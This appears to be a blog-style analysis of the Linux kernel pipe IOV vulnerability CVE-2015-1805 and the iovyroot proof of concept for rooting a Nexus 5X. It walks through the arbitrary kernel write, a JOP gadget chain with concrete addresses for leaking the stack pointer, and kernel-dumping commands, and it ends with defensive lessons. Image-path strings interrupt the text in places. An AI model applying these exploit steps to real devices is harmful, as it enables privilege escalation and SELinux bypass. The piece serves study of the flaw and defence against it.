Kernel Pipe IOV CVE (CVE-2015-1805) Exploit Analysis


CVE brief

CVE-2015-1805 has been reported in 2015. It only effects kernel version below 3.18. This is known issue in upstream linux kernel that was fixed in April2014, but people underestimated the severity of this CVE, was not called out as a security fix. Google noticed this CVE is used to root Nexus device and released a Security Advisory in March 18, 2016.

The vulnerability lays in pipe_read and pipe_write.

pipe_read(struct kiocb *iocb, const struct iovec *_iov,
           unsigned long nr_segs, loff_t pos)
    atomic = !iov_fault_in_pages_write(iov, chars);
    addr = ops->map(pipe, buf, atomic);
    error = pipe_iov_copy_to_user(iov, addr + buf->offset, chars, atomic);
    ops->unmap(pipe, buf, addr);
    if (unlikely(error)) {
        if (atomic) {
                atomic = 0;
                goto redo;
    total_len -= chars;
pipe_iov_copy_to_user(struct iovec *iov, const void *from, unsigned long len,int atomic)
    unsigned long copy;
    while (len > 0) {
        while (!iov->iov_len)
        copy = min_t(unsigned long, len, iov->iov_len);
        if (atomic) {
            if (__copy_to_user_inatomic(iov->iov_base, from, copy))
                return -EFAULT;
        } else {
            if (copy_to_user(iov->iov_base, from, copy))
                return -EFAULT;
        from += copy;
        len -= copy;
        iov->iov_base += copy;
        iov->iov_len -= copy;
    return 0;

pipe_iov_copy_to_user uses a while loop to do the copy, in every loop, it will update iov->iov_base and iov->iov_len, but when error happens, the execution flow in pipe read will go to redo, but iov->iov_base and iov->iov_len were already updated while the outside total_len is not. So there is a memory overrun bug.

This bug is danger because it allows the user to reach __copy_to_user_inatomic, which has no access_ok check, can lead to arbitrary kernel memory write.

How to exploit - PoC analysis

Details about the to exploit is in 影响所有Nexus手机的漏洞,浅析CVE-2015-1805. Today we gonna walk through a PoC called iovyroot (github link), which can temporary root Nexus 5X. It is a good case study.

Achieve arbitrary kernel Memory Write

The arbitrary kernel memory write function is write_at_address.

static int write_at_address(void* target, unsigned long targetval)
    printf("    [+] Patching address %p\n", target);
        return 1;
        return 1;
        return 1;
  1. startwritepipe will write the target_val into pipe buffer, which will be served as from in pipe_iov_copy_to_user(struct iovec *iov, const void *from, unsigned long len, int atomic).
  2. heapspray will place target_addr into a special craft iovs, serve as the iov->iov_base in (__copy_to_user_inatomic(iov->iov_base, from, copy)). __copy_to_user_inatomic does NOT check access_ok, which willachieve arbitrary kernel memory write.

Leak stack pointer by JOP chain

The JOP first jump address is in offset.c.

// in getroot
if(write_at_address(o->check_flags, (long)o->joploc)) //Step 1
    return 1;

sidtab = o->sidtab;
policydb = o->policydb;
preparejop(MMAP_START, o->jopret);
if((dev = open("/dev/ptmx", O_RDWR)) < 0)
    return 1;

fp = (unsigned)fcntl(dev, F_SETFL, MMAP_START); //Step 2
ti = get_thread_info(fp);
// in getroot endvoid preparejop(void** addr, void* jopret)
    unsigned int i;
    for(i = 0; i < (0x1000 / sizeof(int)); i++)
        ((int*)addr)[i] = 0xDEAD;
    addr[4] = jopret; //This line 4*8 = 32 //store second gadget addr

// First gadget
ffffffc0003ee4f0: f9401001  ldr x1, [x0,#32] //load 2nd gadget
ffffffc0003ee4f4: 910143a0  add x0, x29, #0x50 //leak stack pointer
ffffffc0003ee4f8: d63f0020  blr x1 //jump to 2nd gadget// Second gadget
ffffffc0003055ac: 93407c13  sxtw x19, w0
ffffffc0003055b0: 350012f3  cbnz w19, ffffffc00030580c
ffffffc0003055b4: 17fffff6  b ffffffc00030558c
ffffffc0003055b8: f9401680  ldr x0, [x20,#40]
ffffffc0003055bc: b5000220  cbnz x0, ffffffc000305600
ffffffc0003055c0: 9100c293  add x19, x20, #0x30
ffffffc0003055c4: aa1303e0  mov x0, x19
  1. iovyroot uses arbitrary kernel memory write the first JOP gadget address 0xffffffc0003ee4f0 into check_flags function in getroot.

  2. The following fcntl call will invoke fcntl syscall. fcntl syscall will call do_fcntl(), the call sequence is: Sys_fcntl –> do_fcntl –> setfl –> check_flags(arg) MMAP_START will be first argument to check_flags and its value is stored in register x0.

  3. preparejop stores the second gadget address into MMAP_START + 32. The store value will be loaded by the first gadget into x1, and then jump tothe second gadget blr x1.

  4. First gadget moves stack pointer to x0, second gadget will return it to user space. In this way, the stack pointer is leaked to user space.

The second gadget assembly is hard to understand, its c code snippet is

(gdb) list *(0xffffffc0003055ac)
0x3055ac is in SyS_fcntl (fs/fcntl.c:60).
55        !filp->f_mapping->a_ops->direct_IO)
56        return -EINVAL;
57    }
59    if (filp->f_op && filp->f_op->check_flags)
60        error = filp->f_op->check_flags(arg);
61    if (error)
62        returnerror;

It points the line 60, where the return value error will be stack pointer, which will trigger thereturn. After these two JOP gadgets, the stack pointer value will be leaked to user space.


With stack pointer and the arbitrary kernel memory write, the root is easy, which is in modify_task_cred_uc

Reverse engineering techniques

Objdump kernel in boot.img

  1. Download the Nexus release binary
  2. Use enck’s split kernel perl script to split kernel from boot.img
  3. The kernel is gziped, so need to decompress Find the compress start: od -A d -t x1 vmlinuz | grep ‘1f 8b 08 00’
    Decompress: dd if=vmlinuz bs=1 skip=ADDR | zcat > vmlinux
  4. Dump kernel, use -D not -d:arm64-objdump -b binary -m aarch64 --adjust-vma=0xffffffc000080000 -D boot.img-kernel

Find source code loation of JOP gadget

  • vim multiple line matching: .*word.*\n.*word.*\n
  • gdb: list *(addr)

Lesson learnt

  1. When releasing security-sensitive binary, should strip the binary and objcopy to data Same with striping vmlinux to get Image, link;

  2. Before compiling, should replace all strings in log message with encrypted strings or error code, this can prevent the attacker from probing the protections.

  3. Security features aim to protect the system even with vulnerabilities, so should be hard to bypass. For example, never use a variable to switch on/off a security feature, such as
    if (selinux_enforcing) {

    With arbitrary kernel memory write, the attacker can easily write selinux_enforcing to zero to bypass selinux_check.

  4. Invalidate/malicious data should never be used.
    #define MAX 512
    int security_check(int __user index){
     unsigned long data[MAX];
     if (index >= MAX){
         printk(ERR "Wrong index %d %lx\n", index, data[index]);

    Here index should not be used again in the printk. Attacker may exploit printk to leak kernel data.

  5. Use as less global variables as possible.
unsigned long log_addr = 0; //global variable
static int __init log_setup()
    log_addr = xxx;

ssize_t kernel_log_read(struct file *filep, char __user *buf, size_t size, loff_t *offset)
    if (copy_to_user(buf, (const char *)log_addr + (*offset), size)) {
        printk(KERN_ERR"Copy to user failed\n");
        return -1;

With arbitrary kernel memory write, the attacker can easily change log_addr value to achieve arbitrary kernel memory read.


  1. 影响所有Nexus手机的漏洞,浅析CVE-2015-1805
  2. iovyroot github
  3. How do I uncompress vmlinuz to vmlinux?
  4.Bypassing Samsung Knox